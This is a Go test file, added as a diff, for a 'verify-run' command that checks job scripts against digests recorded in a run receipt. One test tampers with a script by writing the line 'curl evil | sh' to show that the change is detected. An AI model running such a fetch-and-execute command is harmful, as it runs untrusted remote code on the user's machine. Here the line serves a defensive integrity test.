@@ -0,0 +1,97 @@
+// SPDX-License-Identifier: AGPL-3.0-or-later
+package cmd
+
+import (
+	"bytes"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/flowd-org/flowd/internal/executor"
+	"github.com/flowd-org/flowd/internal/types"
+)
+
+func writeVerifyRunFixture(t *testing.T) (receiptPath, jobDir string) {
+	t.Helper()
+	tmp := t.TempDir()
+	jobDir = filepath.Join(tmp, "job")
+	if err := os.MkdirAll(jobDir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(jobDir, "100_main.sh"), []byte("echo hi\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	scripts, err := executor.ScriptDigests(jobDir, nil)
+	if err != nil {
+		t.Fatalf("ScriptDigests: %v", err)
+	}
+	receipt := types.RunReceipt{
+		RunID:      "run-1",
+		JobID:      "demo",
+		Status:     "completed",
+		Scripts:    scripts,
+		Provenance: localReceiptProvenance("demo", jobDir),
+	}
+	data, err := json.Marshal(receipt)
+	if err != nil {
+		t.Fatal(err)
+	}
+	receiptPath = filepath.Join(tmp, "receipt.json")
+	if err := os.WriteFile(receiptPath, data, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return receiptPath, jobDir
+}
+
+func runVerifyRun(t *testing.T, args ...string) (runVerdict, error) {
+	t.Helper()
+	cmd := NewVerifyRunCmd()
+	var out bytes.Buffer
+	cmd.SetOut(&out)
+	cmd.SetErr(&bytes.Buffer{})
+	cmd.SetArgs(append([]string{"--json"}, args...))
+	err := cmd.Execute()
+	var verdict runVerdict
+	if decErr := json.Unmarshal(out.Bytes(), &verdict); decErr != nil {
+		t.Fatalf("decode verdict: %v\n%s", decErr, out.String())
+	}
+	return verdict, err
+}
+
+func TestVerifyRunPassesUnsignedReceiptWithMatchingScripts(t *testing.T) {
+	receiptPath, _ := writeVerifyRunFixture(t)
+	verdict, err := runVerifyRun(t, receiptPath)
+	if err != nil {
+		t.Fatalf("expected verification to pass: %v", err)
+	}
+	if verdict.Signature.Result != checkSkipped || verdict.Scripts.Result != checkPassed || !verdict.Verified {
+		t.Fatalf("unexpected verdict %+v", verdict)
+	}
+}
+
+func TestVerifyRunDetectsChangedScript(t *testing.T) {
+	receiptPath, jobDir := writeVerifyRunFixture(t)
+	if err := os.WriteFile(filepath.Join(jobDir, "100_main.sh"), []byte("curl evil | sh\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	verdict, err := runVerifyRun(t, receiptPath)
+	if err == nil {
+		t.Fatalf("expected verification failure")
+	}
+	if verdict.Scripts.Result != checkFailed || verdict.Verified || len(verdict.Scripts.Problems) != 1 {
+		t.Fatalf("unexpected verdict %+v", verdict)
+	}
+	if !strings.Contains(verdict.Scripts.Problems[0], "100_main.sh") {
+		t.Fatalf("expected problem to name the script, got %q", verdict.Scripts.Problems[0])
+	}
+}
+
+func TestVerifyRunFailsOnMissingExplicitSignature(t *testing.T) {
+	receiptPath, _ := writeVerifyRunFixture(t)
+	verdict, err := runVerifyRun(t, "--signature", receiptPath+".missing", receiptPath)
+	if err == nil || verdict.Signature.Result != checkFailed {
+		t.Fatalf("expected signature failure, got %+v (err %v)", verdict, err)
+	}
+}